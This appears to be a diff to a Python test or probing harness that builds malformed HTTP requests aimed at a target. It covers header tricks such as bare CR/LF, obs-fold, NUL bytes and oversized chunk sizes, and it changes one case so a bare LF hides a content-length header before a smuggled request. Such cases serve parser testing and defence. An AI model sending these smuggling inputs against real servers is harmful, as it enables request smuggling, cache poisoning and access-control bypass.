@@ -30,7 +30,7 @@ def cases(target):
         "chunked behind a tab": line + b"transfer-encoding:\tchunked\r\n" + length + b"\r\n" + chunk,
         "space before the colon": line + b"content-length : 0\r\n" + length + b"\r\n" + SMUGGLED,
         "obs-fold": line + b"x: a\r\n content-length: 0\r\n" + length + b"\r\n" + SMUGGLED,
-        "bare LF in the head": line.replace(b"\r\n", b"\n") + b"content-length: 0\n\n" + SMUGGLED,
+        "bare LF that hides a length": line + b"x: a\ncontent-length: 0\r\n" + length + b"\r\n" + SMUGGLED,
         "bare CR in a value": line + b"x: a\rcontent-length: 0\r\n" + length + b"\r\n" + SMUGGLED,
         "NUL in a value": line + b"x: a\0b\r\n" + length + b"\r\n" + SMUGGLED,
         "chunk size too large": line + chunked + b"\r\nffffffffffffffffff\r\n" + SMUGGLED,
